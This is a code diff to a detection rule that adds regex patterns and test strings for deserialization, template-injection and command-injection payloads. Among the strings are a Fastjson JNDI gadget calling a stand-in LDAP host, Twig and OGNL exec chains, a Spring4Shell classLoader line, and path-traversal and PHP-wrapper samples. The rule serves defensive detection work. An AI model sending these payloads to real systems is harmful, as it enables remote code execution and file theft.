@@ -71,6 +71,15 @@ export const rule: Rule = {
     { re: /\.(?:inspect|forName)\(["']java\.lang\.(?:Runtime|ProcessBuilder)["']\)/ },
     { re: /!!python\/object\/(?:apply|new):(?:os|posix|subprocess|builtins|__builtin__|commands|nt)\./ },
     { re: /!!javax\.script\.ScriptEngineManager\s?\[/ },
+    // What programs that unpack an object or fill a form by name are made to run (CWE-502, CVE-2022-22965)
+    {
+      re: /@type["']\s?:\s?["']com\.sun\.(?:rowset\.JdbcRowSetImpl|org\.apache\.xalan\.internal\.xsltc\.trax\.TemplatesImpl)/,
+    },
+    { re: /_\$\$ND_FUNC\$\$_function/ },
+    { re: /\{\{\s?_self\.env\.(?:registerUndefinedFilterCallback|getFilter|setCache)\(/ },
+    { re: /@ognl\.OgnlContext@DEFAULT_MEMBER_ACCESS/ },
+    { re: /class\.module\.classLoader\.resources\.context\.parent\.pipeline/ },
+    { re: /["']java\.lang\.ProcessBuilder["']/, accept: ({ before }) => /\sclass=$/.test(before) },
     // Files and commands behind the wrappers of PHP, and what leads out of a folder, where a value begins.
     {
       re: /=(?:php:\/\/(?:filter|input)|expect:\/\/\w|data:\/\/text\/plain|file:\/\/\/(?:etc|proc|[a-z]:)\/)/i,
@@ -92,7 +101,7 @@ export const rule: Rule = {
       accept: (match) => isCommandInRequest(match, 'sure'),
     },
     {
-      re: /[=;|& ](?:start-process|write-host|remove-item)(?=[\s+;|&)]|$)/i,
+      re: /[=;|& ](?:start-process|start-sleep|write-host|remove-item)(?=[\s+;|&)]|$)/i,
       accept: (match) => isCommandInRequest(match, 'sure'),
     },
     {
@@ -125,6 +134,13 @@ export const rule: Rule = {
       "process.mainModule.require('child_process').execSync('id')",
       '${"freemarker.template.utility.Execute"?new()("id")}',
       '!!python/object/apply:os.system ["id"]',
+      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://files.invalid/a"}',
+      '{"x":"_$$ND_FUNC$$_function (){}()"}',
+      '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
+      '%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}',
+      'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
+      '<void class="java.lang.ProcessBuilder" method="start"/>',
+      '/get?x=1; Start-Sleep -s 5',
       '/get?page=php://filter/convert.base64-encode/resource=index.php',
       '/get?page=../../../../etc/passwd',
       '/get?repo=--upload-pack=id',
@@ -145,6 +161,9 @@ export const rule: Rule = {
       'See ../../etc/passwd in the sandbox of the test.',
       '- !!python/object/apply:mytests.Point [1, 2]',
       'if (process.mainModule === module) main();',
+      '$twig->registerUndefinedFilterCallback(function ($name) {',
+      'import com.sun.rowset.JdbcRowSetImpl;',
+      '<bean id="run" class="org.example.ProcessBuilder"/>',
       '<!DOCTYPE note SYSTEM "note.dtd">',
       'Use Get-Content to read a file; Remove-Item deletes it.',
       '- Print the accounts of this machine:\n\n`cat /etc/passwd`',
